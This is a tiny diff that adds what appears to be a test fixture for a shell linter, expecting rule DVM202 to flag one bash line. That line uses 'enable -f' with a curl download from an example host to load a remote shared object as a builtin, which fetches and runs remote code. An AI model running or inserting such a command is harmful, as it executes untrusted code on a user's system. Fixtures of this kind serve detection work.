@@ -1,0 +1,2 @@
+# expect: DVM202
+enable -f <(curl -s https://x.example.org/a.so) x
